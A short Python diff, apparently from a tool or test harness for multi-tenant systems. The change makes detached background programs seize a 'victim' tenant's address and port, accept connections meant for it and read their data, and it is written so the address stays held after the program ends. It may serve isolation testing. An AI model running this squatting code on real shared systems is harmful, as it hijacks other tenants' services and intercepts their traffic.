@@ -43,7 +43,9 @@ def squat(tenant, victim, seconds, pause=0.002):
 
 def squat_until_told(tenant, victim, copies=1):
     """Begins programs that try for the victim's address for a minute and listen there once they have it."""
-    listen = SQUATTER.replace("break", "time.sleep(60); break")
+    # It hangs up first, so that its connections keep the address when it has ended.
+    serve = "[(one.recv(99), one.close()) for one, _ in iter(taker.accept, None)]; break"
+    listen = SQUATTER.replace("break", serve)
     program = listen.format(host=victim["Endpoint"], port=victim["Port"], seconds=60, pause=0.002)
     name = clients.unique("squat")
     begin = "".join(f"setsid python3 {name}.py > {name}.{copy} 2>&1 < /dev/null & " for copy in range(copies))
